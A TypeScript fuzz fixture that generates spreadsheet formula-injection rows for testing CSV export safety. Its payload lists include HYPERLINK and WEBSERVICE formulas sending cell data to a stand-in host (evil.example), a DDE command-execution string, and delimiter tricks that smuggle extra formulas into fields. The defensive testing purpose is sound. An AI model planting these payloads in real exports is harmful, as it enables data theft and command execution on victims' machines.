// Rows that a spreadsheet would calculate if it could (security.md T19): what a stranger may send as a text, or staff keep as
// a name or note. The same seed gives the same rows.
import { chooser, hostileText } from '../../fuzz/hostile-text.ts';

const BEGINNINGS = [
  '',
  '',
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\0=',
  ' =',
  "'=",
  "''+",
  '"=',
  '\u00a0=',
  '\ufeff=',
];
const FORMULAS = [
  '1+1',
  '33612345678',
  'HYPERLINK("https://evil.example/?q="&A1,"Open")',
  'WEBSERVICE("https://evil.example/")',
  "cmd|' /C calc'!A0",
  'SUM(A1:A9)*2',
  'DDE("soffice";"x";"y")',
  '1+1;=2+2;z',
  '1\t=3+3\tz',
  '1,=4+4,z',
  '1\r\n=5+5\r\n',
  '1";=6+6;"z',
  '1",=7+7,"z',
] as const;

/** Three fields each. */
export function hostileRows(count: number, seed: number): string[][] {
  const choose = chooser(seed);
  const field = () =>
    choose.oneIn(5) ? hostileText(choose) : `${choose.of(BEGINNINGS) ?? ''}${choose.of(FORMULAS) ?? ''}`;
  return Array.from({ length: count }, () => [field(), field(), field()]);
}
